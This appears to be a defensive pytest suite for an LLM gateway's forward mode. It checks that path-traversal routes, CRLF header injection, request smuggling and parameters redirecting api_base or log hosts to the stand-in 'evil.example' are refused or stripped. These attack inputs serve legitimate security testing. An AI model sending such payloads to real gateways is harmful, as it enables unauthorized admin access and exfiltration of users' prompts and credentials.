"""Attacks on forward mode: whoever may chat wants LiteLLM's administration, or to decide what the operator decides."""

from __future__ import annotations

import ast
import json
from importlib.util import find_spec
from pathlib import Path
from typing import Any
from urllib.parse import unquote_plus

import pytest

from mini_agent.core.steering import metadata_steers, parameter_steers
from support.gateway import Gateway, Stage
from support.http_client import raw_exchange
from support.upstream import answer

MASTER = "mk-of-clients-0123456789"
EVIL = "http://evil.example"
URLENCODED = "application/x-www-form-urlencoded"
MULTIPART = "multipart/form-data; boundary=BO"


def relaying(stage: Stage, **general: Any) -> Gateway:
    """Returns: a gateway in forward mode, whose external process is the stage's provider."""
    config = {"general_settings": {"master_key": MASTER, **general}, "model_list": [stage.entry()]}
    environ = {
        "MINI_AGENT_PROVIDER_MODE": "forward",
        "MINI_AGENT_FORWARD_URL": stage.upstream.base.removesuffix("/v1"),
        "MINI_AGENT_FORWARD_KEY": "fk-1",
    }
    return stage.gateway(config, environ, headers={"authorization": f"Bearer {MASTER}"})


@pytest.mark.parametrize(
    ("wanted", "method", "path"),
    [
        ("a key of its own", "POST", "/v1/key/generate"),
        ("the keys of others", "GET", "/v1/key/info"),
        ("the configured models with their addresses", "GET", "/v1/model/info"),
        ("a model of its own", "POST", "/v1/model/new"),
        ("a team", "POST", "/v1/team/new"),
        ("the files of other users", "GET", "/v1/files"),
        ("somebody's file", "GET", "/v1/files/file-1/content"),
        ("other users' batches", "GET", "/v1/batches"),
        ("other users' assistants", "GET", "/v1/assistants"),
        ("fine-tuning at the operator's cost", "POST", "/v1/fine_tuning/jobs"),
        ("tools of LiteLLM's MCP gateway", "POST", "/v1/mcp/tools/call"),
        ("vector stores of others", "GET", "/v1/vector_stores"),
        ("a pass-through to a provider, with the operator's key", "POST", "/v1/anthropic/v1/messages"),
        ("the administration behind an open tree", "GET", "/v1/audio/../key/info"),
        ("the same, encoded", "GET", "/v1/audio/%2e%2e/key/info"),
        ("the same, encoded twice", "GET", "/v1/audio/%252e%252e/key/info"),
        ("the same, with an encoded slash", "GET", "/v1/audio/x%2f..%2f..%2fkey%2finfo"),
        ("the same, with a backslash", "GET", "/v1/audio/..\\..\\key/info"),
        ("the same, with an encoded backslash", "GET", "/v1/images/..%5c..%5ckey"),
        ("the same, with an empty part", "GET", "/v1/responses//key/info"),
        ("a response of somebody's", "GET", "/v1/responses/resp_1/and/more"),
        ("an open path in another spelling", "POST", "/v1/%72erank"),
        ("what begins like an open path", "POST", "/v1/rerank_admin"),
        ("what stands below an open path", "POST", "/v1/rerank/key/generate"),
        ("an open tree without its name", "GET", "/v1/responses_of_all"),
        ("an open path with a slash behind", "POST", "/v1/messages/"),
        ("a line of its own in the request", "GET", "/v1/audio/%0d%0aX-Evil:1"),
    ],
)
def test_paths_that_are_no_inference(stage: Stage, wanted: str, method: str, path: str) -> None:
    """The forward key opens all of the process; who has the gateway's key gets inference, and a 404 for the rest."""
    reply = relaying(stage).request(method, path, b"{}" if method == "POST" else None)
    assert (reply.status, reply.error["code"], stage.upstream.requests) == (404, "route_not_found", []), wanted


@pytest.mark.parametrize(
    "path",
    "moderations rerank audio/transcriptions images/generations".split(),
)
def test_inference_is_relayed(stage: Stage, path: str) -> None:
    """The list is no wall: what clients ask of a model goes on."""
    assert relaying(stage).post(f"/v1/{path}", {"model": "m1"}).status == 200
    assert stage.upstream.requests[0].path == f"/v1/{path}"


def test_the_operator_opens_one_by_one(stage: Stage) -> None:
    """`relay_routes` opens a path alone, or with what is below it, and nothing beside it."""
    gateway = relaying(stage, relay_routes=["files", "batches/*"])
    status = {path: gateway.get(f"/v1/{path}").status for path in ("files", "files/f1", "batches/b1/x", "batches")}
    assert status == {"files": 200, "files/f1": 404, "batches/b1/x": 200, "batches": 404}


def part(head: str, value: str) -> str:
    """Returns: one part of a multipart body."""
    return f"--BO\r\n{head}\r\n\r\n{value}\r\n"


NAMED = 'Content-Disposition: form-data; name="{}"'
END = "--BO--\r\n"


@pytest.mark.parametrize(
    ("wanted", "kind", "body"),
    [
        ("another address", "application/json", {"api_base": EVIL}),
        ("the same, where the SDK spreads it", "application/json", {"extra_body": {"api_base": EVIL}}),
        ("the same, as JSON in a string", "application/json", {"extra_body": json.dumps({"api_base": EVIL})}),
        ("the same, beside what is no JSON to all", "application/json", {"extra_body": '{"x":NaN,"api_base":"evil"}'}),
        ("the same, of a vector store", "application/json", {"litellm_embedding_config": {"api_base": EVIL}}),
        ("the same, deeper", "application/json", {"extra_body": {"a": [{"extra_body": {"base_url": EVIL}}]}}),
        ("the log of everybody's prompts", "application/json", {"metadata": {"langfuse_host": EVIL}}),
        ("the same, as JSON in a string", "application/json", {"metadata": json.dumps({"langfuse_host": EVIL})}),
        ("the same, under LiteLLM's own name", "application/json", {"litellm_metadata": {"slack_webhook_url": EVIL}}),
        ("the same, at the top", "application/json", {"posthog_host": EVIL}),
        ("the machine's role at AWS", "application/json", {"aws_role_name": EVIL, "aws_sts_endpoint": EVIL}),
        ("uploads of all at its own place", "application/json", {"s3_endpoint_url": EVIL}),
        ("a token of Azure", "application/json", {"extra_body": {"azure_ad_token": f"oidc/{EVIL}"}}),
        ("the operator's federation", "application/json", {"anthropic_issuer_url": EVIL}),
        ("another deployment", "application/json", {"model_list": [{"litellm_params": {"api_base": EVIL}}]}),
        ("calls for nothing", "application/json", {"input_cost_per_token": 0, "metadata": {"tiered_pricing": 1}}),
        ("another address, by an escaped name", "application/json", b'{"api\\u005fbase": "http://evil.example"}'),
        ("the same, as what curl sends", URLENCODED, {"api_base": EVIL}),
        ("the same, as a form", URLENCODED, b"a=1&api_base=http%3A%2F%2Fevil.example"),
        ("the same, encoded", URLENCODED, b"a=1&%61pi%5Fbase=http%3A%2F%2Fevil.example"),
        ("the same, behind a semicolon", URLENCODED, b"a=1;api_base=http%3A%2F%2Fevil.example"),
        ("the same, as a list", URLENCODED, b"a=1&api_base[]=http%3A%2F%2Fevil.example"),
        ("the same, in brackets", URLENCODED, b"a=1&extra_body[api_base]=http%3A%2F%2Fevil.example"),
        ("the log, in brackets", URLENCODED, b"a=1&metadata[a][langfuse_host]=http%3A%2F%2Fevil.example"),
        ("the log, as JSON in a form", URLENCODED, b"metadata=%7B%22langfuse_host%22%3A%22evil%22%7D"),
        ("another address, as multipart", MULTIPART, part(NAMED.format("api_base"), EVIL) + END),
        ("the same, in brackets", MULTIPART, part(NAMED.format("extra_body[api_base]"), EVIL) + END),
        ("the same, as JSON", MULTIPART, part(NAMED.format("extra_body"), json.dumps({"api_base": EVIL})) + END),
        ("the same, as a file", MULTIPART, part(NAMED.format("api_base") + '; filename="f"', EVIL) + END),
        ("the same, named by the second of two lines", MULTIPART,
         part(NAMED.format("a") + "\r\n" + NAMED.format("api_base"), EVIL) + END),
        ("the same, named twice", MULTIPART, part(NAMED.format("a") + '; name="api_base"', EVIL) + END),
        ("the same, after a bare line feed", MULTIPART, part("X: 1\n" + NAMED.format("api_base"), EVIL) + END),
        ("the same, as an extended name", MULTIPART,
         part("Content-Disposition: form-data; name*=utf-8''api%5Fbase", EVIL) + END),
        ("the same, by an escape in a file's name", MULTIPART,
         part('Content-Disposition: form-data; filename="\\"; name="api_base', EVIL) + END),
        ("two boundaries, one for each reader", "multipart/form-data; boundary=BO; boundary=XX",
         "--XX\r\n" + NAMED.format("api_base") + f"\r\n\r\n{EVIL}\r\n--XX--\r\n"),
        ("JSON that says it is a form in a parameter", "application/json; x=multipart/form-data; boundary=BO",
         {"api_base": EVIL}),
        ("JSON with a boundary in front of it", MULTIPART, '{"api_base": "http://evil.example", "x": "--BO--"}'),
        ("JSON in UTF-16", "application/json", json.dumps({"api_base": EVIL}).encode("utf-16")),
        ("JSON in UTF-16 without a mark", "audio/wav", json.dumps({"api_base": EVIL}).encode("utf-16-le")),
        ("JSON behind a mark of UTF-8", "application/json", json.dumps({"api_base": EVIL}).encode("utf-8-sig")),
        ("a container deeper than anybody looks", "application/json",
         b'{"extra_body":' * 40 + b'{"api_base":"http://evil.example"}' + b"}" * 40),
    ],
)  # fmt: skip
def test_orders_to_litellm_in_a_body(stage: Stage, wanted: str, kind: str, body: Any) -> None:
    """Whatever encoding or nesting hides the order, it is taken out, or the body is refused by name."""
    raw = json.dumps(body).encode() if isinstance(body, dict) else body.encode() if isinstance(body, str) else body
    # A path that the operator has opened takes every type; inference takes JSON that says so, and forms for files.
    reply = relaying(stage, relay_routes=["opened"]).request("POST", "/v1/opened", raw, {"content-type": kind})
    assert reply.status in (200, 400), wanted
    sent = b"".join(seen.raw for seen in stage.upstream.requests)
    text = unquote_plus(sent.replace(b"\0", b"").decode("latin-1")).replace("\\u005f", "_")
    names = ("api_base", "base_url", "langfuse", "posthog", "aws_", "s3_", "azure", "issuer", "slack", "cost", "_list")
    assert not [name for name in names if name in text], wanted


@pytest.mark.parametrize(
    ("wanted", "query", "headers"),
    [
        ("another address", f"api_base={EVIL}", {}),
        ("the same, encoded", f"%61pi_base={EVIL}", {}),
        ("the log", f"metadata[langfuse_host]={EVIL}", {}),
        ("the log, as JSON", "litellm_metadata=%7B%22langfuse_host%22%3A%22evil%22%7D", {}),
        ("another key", "", {"x-litellm-api-key": EVIL}),
        ("prompts in the log that the operator hides", "", {"litellm-disable-message-redaction": "true"}),
        ("another virtual host at the provider", "", {"x-pass-host": "evil.example"}),
        ("another address by a header", "", {"x-api-base": EVIL}),
        ("to name its own hop", "", {"connection": "x-mini-agent-hop", "x-mini-agent-hop": "0"}),
    ],
)
def test_orders_to_litellm_beside_the_body(stage: Stage, wanted: str, query: str, headers: dict[str, str]) -> None:
    """Neither the address nor a header carries what a body must not."""
    relaying(stage).request("POST", f"/v1/rerank?{query}", b"{}", {"content-type": "application/json", **headers})
    (seen,) = stage.upstream.requests
    assert "evil" not in f"{seen.query} {seen.headers}", wanted
    assert (seen.query, seen.header("x-mini-agent-hop")) == ("", "1"), wanted
    assert seen.header("litellm-disable-message-redaction") is None


@pytest.mark.parametrize("mode", ["sdk", "forward"])
def test_orders_hidden_in_the_metadata_of_a_chat(stage: Stage, mode: str) -> None:
    """The attacker wants its own log host in chat, where metadata is a parameter; the rest of the metadata goes on."""
    gateway = relaying(stage) if mode == "forward" else stage.gateway()
    gateway.chat(metadata={"langfuse_host": EVIL, "topic": "tea", "deep": json.dumps({"api_base": EVIL})})
    assert stage.upstream.requests[0].body["metadata"] == {"topic": "tea", "deep": "{}"}


def test_orders_hidden_in_what_the_operator_opened(stage: Stage) -> None:
    """The operator lets clients set `extra_body`; the attacker wants another address and key through it."""
    gateway = stage.gateway({"model_list": [stage.entry(allowed_openai_params=["extra_body"])]})
    gateway.chat(extra_body={"top_k": 3, "api_base": EVIL, "deep": {"api_key": "sk-evil"}})
    assert stage.upstream.requests[0].body["extra_body"] == {"top_k": 3, "deep": {}}


def test_a_tool_schema_may_use_the_same_words(stage: Stage) -> None:
    """What is no container of parameters is a conversation: a schema with `headers` or `timeout` goes on whole."""
    body = {"model": "m", "query": "x", "tools": [{"type": "mcp", "headers": {"a": "b"}, "timeout": 3}]}
    relaying(stage).post("/v1/rerank", body)
    assert stage.upstream.requests[0].body == body


def test_two_requests_in_one_do_not_pass(stage: Stage) -> None:
    """A relayed body that looks like a second request stays a body."""
    smuggled = b"GET /v1/key/info HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n"
    head = f"POST /v1/opened HTTP/1.1\r\nhost: 127.0.0.1\r\nauthorization: Bearer {MASTER}\r\nconnection: close\r\n"
    head += f"content-type: application/octet-stream\r\ncontent-length: {len(smuggled)}\r\n\r\n"
    stage.upstream.script(answer("ok"))
    assert b" 200 " in raw_exchange(relaying(stage, relay_routes=["opened"]).port, head.encode() + smuggled)
    assert [(seen.path, seen.raw) for seen in stage.upstream.requests] == [("/v1/opened", smuggled)]


@pytest.mark.parametrize("path", ["moderations", "rerank", "images/generations"])
@pytest.mark.parametrize(
    "kind", ["text/plain", URLENCODED, MULTIPART, "application/octet-stream", "", "application/jsonx"]
)
def test_json_under_another_name(stage: Stage, path: str, kind: str) -> None:
    """Wanted: a request that a page may send unasked, read as JSON by the process behind: 415, before it is read."""
    reply = relaying(stage).request("POST", f"/v1/{path}", b'{"model": "m1"}', {"content-type": kind} if kind else {})
    assert (reply.status, reply.error["code"], stage.upstream.requests) == (415, "unsupported_media_type", [])


@pytest.mark.parametrize("path", ["audio/transcriptions", "audio/translations", "images/edits", "images/variations"])
def test_files_come_as_forms(stage: Stage, path: str) -> None:
    """Where files go, a form is what clients send; anything else that is no JSON is refused there, too."""
    body = b'--BO\r\ncontent-disposition: form-data; name="model"\r\n\r\nm1\r\n--BO--\r\n'
    gateway = relaying(stage)
    assert gateway.request("POST", f"/v1/{path}", body, {"content-type": MULTIPART}).status == 200
    assert gateway.request("POST", f"/v1/{path}", b"{}", {"content-type": "text/plain"}).status == 415
    assert [seen.raw for seen in stage.upstream.requests] == [body]


def of_litellm() -> set[str]:
    """Returns: what the installed LiteLLM forbids clients, read from its source: to import it takes seconds."""
    spec = find_spec("litellm")
    assert spec is not None
    assert spec.origin is not None
    root = Path(spec.origin).parent
    names: set[str] = set()
    for path, wanted in (
        ("proxy/auth/auth_utils.py", {"_BANNED_REQUEST_BODY_PARAMS", "_EXTRA_BANNED_OBSERVABILITY_PARAMS"}),
        ("litellm_core_utils/initialize_dynamic_callback_params.py",
         {"_supported_callback_params", "_request_blocked_callback_params"}),
    ):  # fmt: skip
        for node in ast.parse((root / path).read_text()).body:
            if isinstance(node, ast.AnnAssign) and isinstance(node.target, ast.Name) and node.target.id in wanted:
                names |= {item.value for item in ast.walk(node) if isinstance(item, ast.Constant)}
    for node in ast.walk(ast.parse((root / "types/utils.py").read_text())):
        if isinstance(node, ast.ClassDef) and node.name in ("CustomPricingLiteLLMParams", "MirroredPricingParams"):
            names |= {item.target.id for item in node.body if isinstance(item, ast.AnnAssign)}  # type: ignore[union-attr]
    return {name for name in names if isinstance(name, str)}


def test_every_name_that_litellm_forbids_is_forbidden() -> None:
    """The list is LiteLLM's of the locked version, whole; two names in it are LiteLLM's own exceptions."""
    names = of_litellm()
    assert len(names) > 190
    harmless = {"langfuse_prompt_version", "langsmith_sampling_rate"}
    assert {name for name in names if not metadata_steers(name)} - {"model_config"} == harmless
    assert all(map(parameter_steers, names - harmless - {"model_config"}))


@pytest.mark.parametrize(
    ("wanted", "method", "path"),
    [
        ("a response of another user's, by its id", "GET", "/v1/responses/resp_1"),
        ("the same, for good", "DELETE", "/v1/responses/resp_1"),
        ("what another user has said", "GET", "/v1/responses/resp_1/input_items"),
        ("to end another user's work", "POST", "/v1/responses/resp_1/cancel"),
        ("a chat of another user's", "GET", "/v1/chat/completions/chatcmpl-1"),
        ("what was said in it", "GET", "/v1/chat/completions/chatcmpl-1/messages"),
    ],
)
def test_what_the_process_keeps_of_all_users_is_not_reached(stage: Stage, wanted: str, method: str, path: str) -> None:
    """The process knows no users: what it has stored is nobody's here."""
    reply = relaying(stage).request(method, path, b"{}" if method == "POST" else None)
    assert (reply.status, reply.error["code"], stage.upstream.requests) == (404, "not_stored", []), wanted


def test_an_id_of_the_process_is_not_passed_on(stage: Stage) -> None:
    """Wanted: the conversation of another user's, as the beginning of one's own."""
    body = {"model": "m1", "input": "go on", "previous_response_id": "resp_1"}
    reply = relaying(stage).post("/v1/responses", body)
    assert (reply.status, reply.error["code"], stage.upstream.requests) == (404, "previous_response_not_found", [])
